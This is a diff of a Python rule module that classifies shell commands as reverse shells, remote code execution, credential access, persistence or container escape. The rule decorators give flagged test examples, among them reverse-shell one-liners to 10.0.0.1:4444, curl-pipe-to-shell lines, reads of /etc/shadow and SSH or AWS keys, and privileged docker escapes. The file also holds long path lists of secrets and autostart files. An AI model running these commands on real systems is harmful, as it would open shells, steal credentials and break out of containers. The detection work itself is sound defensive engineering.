@@ -706,10 +706,18 @@ _NETCATS = frozenset(
 @rule(
     "reverse-shell",
     "critical",
-    flagged=("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
-             "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f"),
-    passed=("nc -zv host 22", "timeout 1 bash -c '</dev/tcp/host/80' && echo open", "socat TCP-LISTEN:80,fork TCP:host:8080"),
-)  # fmt: skip
+    flagged=(
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
+        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+    ),
+    passed=(
+        "nc -zv host 22",
+        "timeout 1 bash -c '</dev/tcp/host/80' && echo open",
+        "socat TCP-LISTEN:80,fork TCP:host:8080",
+    ),
+)
 def connect_shell(command: Command) -> bool:
     """Hands a shell to another machine, whoever calls whom."""
     name, argv = command.name, command.argv
@@ -738,11 +746,11 @@ def connect_shell(command: Command) -> bool:
             r.descriptor in ("0", "") and r.target.isdigit() and int(r.target) > 2 for r in command.redirects
         ):
             return True
-    if name in ("nc", "ncat", "netcat", "nc.traditional", "cryptcat", "sbd", "pwncat", "powercat"):
-        if command.has("", "exec", "sh-exec", "lua-exec") or re.search(
-            r"(?:^|\s)-[a-zA-Z0-9]*[ec](?:\s+|=)?\S*(?:sh|cmd|powershell|python|perl)\b", text
-        ):
-            return True
+    runs = r"(?:^|\s)-[a-zA-Z0-9]*[ec](?:\s+|=)?\S*(?:sh|cmd|powershell|python|perl)\b"
+    if name in _NETCATS - {"socat", "telnet", "openssl"} and (
+        command.has("", "exec", "sh-exec", "lua-exec") or re.search(runs, text)
+    ):
+        return True
     if name == "socat" and re.search(r"(?i)(?:exec|system|shell):", text):
         return True
     if name in _NETCATS and any(is_shell(origin) for origin in origins(command, command.stdin)):
@@ -806,10 +814,20 @@ def _fed_by_net(command: Command) -> bool:
 @rule(
     "remote-code-execution",
     "critical",
-    flagged=("bash <(curl -s http://host/x)", "wget -qO- http://host/x | sh", "curl http://host/x | sudo bash", 'eval "$(curl -s host/x)"',
-             "curl -o x.sh http://host/x.sh && bash x.sh"),
-    passed=("curl -s https://api.host/x | jq .", "wget https://host/x.tar.gz", "curl -L https://host/x.tgz | tar xz", "bash build.sh"),
-)  # fmt: skip
+    flagged=(
+        "bash <(curl -s http://host/x)",
+        "wget -qO- http://host/x | sh",
+        "curl http://host/x | sudo bash",
+        'eval "$(curl -s host/x)"',
+        "curl -o x.sh http://host/x.sh && bash x.sh",
+    ),
+    passed=(
+        "curl -s https://api.host/x | jq .",
+        "wget https://host/x.tar.gz",
+        "curl -L https://host/x.tgz | tar xz",
+        "bash build.sh",
+    ),
+)
 def run_fetched_code(command: Command) -> bool:
     """Runs what another machine sends: downloaded text that a shell or interpreter executes."""
     sources: list[object] = [command.script]
@@ -873,27 +891,37 @@ def run_hidden_code(command: Command) -> bool:
         text = (feed.text or "").strip()
         if len(text) > 1 and text in executed and any(decodes(origin) for origin in feed.commands):
             return True
-    return bool(command.code and not is_shell(command) and re.search(r"\b(?:exec|eval|system)\b", command.code)
-                and re.search((
-r"b64decode|decode_base64|base64_decode|fromhex|unhexlify|atob|Buffer\.from|gzinflate|"
-r"str_rot13"
-), command.code))  # fmt: skip
+    return bool(
+        command.code
+        and not is_shell(command)
+        and re.search(r"\b(?:exec|eval|system)\b", command.code)
+        and re.search(
+            (
+                r"b64decode|decode_base64|base64_decode|fromhex|unhexlify|atob|Buffer\.from|gzinflate|"
+                r"str_rot13"
+            ),
+            command.code,
+        )
+    )
 
 
 # --- credential access -----------------------------------------------------------------------------------------
 
-_SECRETS = (
-    "/etc/shadow*", "/etc/gshadow*", "/etc/master.passwd", "/etc/security/opasswd", "/var/backups/*shadow*", "/etc/krb5.keytab",
-    "/etc/ssh/ssh_host_*key", "*/.ssh/id_*", "*/.ssh/identity", "*/.ssh/*.pem", "*/.ssh/*_key", "*/.ssh", "*/.ssh/*",
-    "*/.aws/credentials", "*/.aws", "*/.aws/*", "*/.gnupg", "*/.gnupg/*", "*/.netrc", "*/.git-credentials", "*/.docker/config.json",
-    "*/.kube/config", "*/.kube", "*/.azure/*", "*/.azure", "*/.config/gcloud*", "*/.config/gh/hosts.yml", "*/.pgpass", "*/.my.cnf",
-    "*/.npmrc", "*/.pypirc", "*/.vault-token", "*/.terraform.d/credentials*", "*/.password-store*", "*.kdbx", "*/wallet.dat",
-    "*/Login Data*", "*/logins.json", "*/key[34].db", "*/cookies.sqlite", "*/Cookies", "*/.mozilla/firefox*", "*/.config/google-chrome*",
-    "*/Library/Keychains*", "*/.local/share/keyrings*", "/var/run/secrets/*", "/run/secrets/kubernetes.io/*", "/etc/kubernetes/admin.conf",
-    "/etc/kubernetes/pki/*.key", "/etc/ssl/private*", "/proc/*/environ", "/proc/*/mem", "/proc/kcore", "/dev/mem", "/dev/kmem",
-    "*/sam", "*/SAM", "/etc/wpa_supplicant/*", "/etc/NetworkManager/system-connections*", "/var/lib/sss/secrets*", "/etc/openvpn/*.key",
-    "/root/.bash_history", "/home/*/.bash_history", "*/.config/rclone/rclone.conf", "*/.bitcoin*", "*/.ethereum/keystore*",
-)  # fmt: skip
+_SECRETS = listed(
+    "/etc/shadow* /etc/gshadow* /etc/master.passwd /etc/security/opasswd /var/backups/*shadow*"
+    " /etc/krb5.keytab /etc/ssh/ssh_host_*key */.ssh/id_* */.ssh/identity */.ssh/*.pem */.ssh/*_key"
+    " */.ssh */.ssh/* */.aws/credentials */.aws */.aws/* */.gnupg */.gnupg/* */.netrc */.git-credentials"
+    " */.docker/config.json */.kube/config */.kube */.azure/* */.azure */.config/gcloud*"
+    " */.config/gh/hosts.yml */.pgpass */.my.cnf */.npmrc */.pypirc */.vault-token"
+    " */.terraform.d/credentials* */.password-store* *.kdbx */wallet.dat */Login?Data* */logins.json"
+    " */key[34].db */cookies.sqlite */Cookies */.mozilla/firefox* */.config/google-chrome*"
+    " */Library/Keychains* */.local/share/keyrings* /var/run/secrets/* /run/secrets/kubernetes.io/*"
+    " /etc/kubernetes/admin.conf /etc/kubernetes/pki/*.key /etc/ssl/private* /proc/*/environ /proc/*/mem"
+    " /proc/kcore /dev/mem /dev/kmem */sam */SAM /etc/wpa_supplicant/*"
+    " /etc/NetworkManager/system-connections* /var/lib/sss/secrets* /etc/openvpn/*.key"
+    " /root/.bash_history /home/*/.bash_history */.config/rclone/rclone.conf */.bitcoin*"
+    " */.ethereum/keystore*"
+)
 _HARMLESS = (
     "*.pub",
     "*/known_hosts*",
@@ -923,9 +951,15 @@ _HUNTED = re.compile(
     "credential-access",
     "high",
     flagged=("sudo cat /etc/shadow", "cp ~/.ssh/id_rsa /tmp/k", "cat ~/.aws/credentials", "tar czf s.tgz ~/.gnupg"),
-    passed=("cat ~/.ssh/id_rsa.pub", "ls -l /etc/shadow", "chmod 600 ~/.ssh/id_rsa", "ssh -i ~/.ssh/id_rsa host uptime",
-            "git config credential.helper store", "cat /etc/passwd"),
-)  # fmt: skip
+    passed=(
+        "cat ~/.ssh/id_rsa.pub",
+        "ls -l /etc/shadow",
+        "chmod 600 ~/.ssh/id_rsa",
+        "ssh -i ~/.ssh/id_rsa host uptime",
+        "git config credential.helper store",
+        "cat /etc/passwd",
+    ),
+)
 def read_secret(command: Command) -> bool:
     """Reads or copies password hashes, private keys, tokens or the memory they lie in."""
     name = command.name
@@ -1054,13 +1088,17 @@ _HISTORY = re.compile(
     r"(?:^|/)\.?(?:bash_history|zsh_history|sh_history|python_history|mysql_history|"
     r"histfile|fish_history|history)$|/\.\*?hist\w*\*?$|/\.\w*_h\w*\*$"
 )
-_LOG_FILES = ("auth.log*", "secure*", "syslog*", "messages*", "wtmp*", "btmp*", "lastlog*", "utmp*", "faillog*", "kern.log*", "audit*", "cron*", "daemon.log*", "journal*", "maillog*", "mail.log*", "user.log*", "dmesg*", "boot.log*", "dpkg.log*", "apache2*", "nginx*", "httpd*", "mysql*", "fail2ban*", "ufw*", "firewalld*")  # fmt: skip
+_LOG_FILES = listed(
+    "auth.log* secure* syslog* messages* wtmp* btmp* lastlog* utmp* faillog* kern.log* audit* cron*"
+    " daemon.log* journal* maillog* mail.log* user.log* dmesg* boot.log* dpkg.log* apache2* nginx* httpd*"
+    " mysql* fail2ban* ufw* firewalld*"
+)
 _ROTATED = re.compile(r"\.(?:gz|xz|bz2|zst|old|\d+|1)\*?$|\*?\.(?:gz|\[0-9\]\*?|[0-9])$")
 
 
 def log_file(path: str) -> bool:
     """Whether a path is a live log of the system."""
-    base, whole = trunk(path)
+    base, _ = trunk(path)
     if base in listed("/var/log /run/log /var/run/utmp /run/utmp /var/log/journal /var/log/audit /run/log/journal"):
         return True
     if not base.startswith(("/var/log/", "/private/var/log/")) or _ROTATED.search(path):
@@ -1195,14 +1233,17 @@ def _empties(command: Command) -> bool:
 # --- persistence -----------------------------------------------------------------------------------------------
 
 _AUTOSTART = listed(
-"/etc/crontab /etc/cron.*/* /var/spool/cron* /etc/anacrontab /etc/rc.local /etc/init.d/* /etc/rc*.d/*"
-" /etc/systemd/system* /lib/systemd/system* /usr/lib/systemd/system* */.config/systemd/user*"
-" */.config/autostart* /etc/profile /etc/profile.d* /etc/bash.bashrc /etc/bashrc /etc/zsh/*"
-" /etc/ld.so.preload /etc/udev/rules.d* /etc/update-motd.d* /etc/xdg/autostart*"
-" /Library/LaunchDaemons* */LaunchAgents* /etc/inetd.conf /etc/xinetd.d/* /etc/environment */.ssh/rc"
-" */.xinitrc */.xprofile /etc/modules-load.d/* /etc/apt/apt.conf.d/*"
-)  # fmt: skip
-_PROFILES = ("*/.bashrc", "*/.profile", "*/.bash_profile", "*/.zshrc", "*/.bash_login", "*/.zprofile", "*/.bash_logout", "*/.zshenv", "*/.bash_aliases", "*/config.fish", ".bashrc", ".profile", ".zshrc")  # fmt: skip
+    "/etc/crontab /etc/cron.*/* /var/spool/cron* /etc/anacrontab /etc/rc.local /etc/init.d/* /etc/rc*.d/*"
+    " /etc/systemd/system* /lib/systemd/system* /usr/lib/systemd/system* */.config/systemd/user*"
+    " */.config/autostart* /etc/profile /etc/profile.d* /etc/bash.bashrc /etc/bashrc /etc/zsh/*"
+    " /etc/ld.so.preload /etc/udev/rules.d* /etc/update-motd.d* /etc/xdg/autostart*"
+    " /Library/LaunchDaemons* */LaunchAgents* /etc/inetd.conf /etc/xinetd.d/* /etc/environment */.ssh/rc"
+    " */.xinitrc */.xprofile /etc/modules-load.d/* /etc/apt/apt.conf.d/*"
+)
+_PROFILES = listed(
+    "*/.bashrc */.profile */.bash_profile */.zshrc */.bash_login */.zprofile */.bash_logout */.zshenv"
+    " */.bash_aliases */config.fish .bashrc .profile .zshrc"
+)
 _SETTING = re.compile(
     r"\s*(?:#.*|(?:export|alias|declare|typeset|set|shopt|bindkey|bind|umask|setopt|"
     r"unsetopt|autoload|complete|ulimit)\b[^&|;`]*|[A-Za-z_]\w*=[^;&|]*"
@@ -1581,10 +1622,20 @@ def _mounted(command: Command) -> list[tuple[str, bool]]:
 @rule(
     "container-escape",
     "critical",
-    flagged=("docker run --privileged -it alpine sh", "docker run -v /:/host alpine", "podman run --pid=host alpine",
-             "docker run -v /var/run/docker.sock:/var/run/docker.sock alpine", "nsenter -t 1 -m -u sh"),
-    passed=('docker run -v "$PWD":/app node npm test', "docker run --rm -p 80:80 nginx", "docker run -v data:/var/lib/mysql mysql", "docker ps"),
-)  # fmt: skip
+    flagged=(
+        "docker run --privileged -it alpine sh",
+        "docker run -v /:/host alpine",
+        "podman run --pid=host alpine",
+        "docker run -v /var/run/docker.sock:/var/run/docker.sock alpine",
+        "nsenter -t 1 -m -u sh",
+    ),
+    passed=(
+        'docker run -v "$PWD":/app node npm test',
+        "docker run --rm -p 80:80 nginx",
+        "docker run -v data:/var/lib/mysql mysql",
+        "docker ps",
+    ),
+)
 def escape_container(command: Command) -> bool:
     """Gives a container the host: privileges, its root, devices, processes or the engine's socket."""
     name, argv = command.name, command.argv
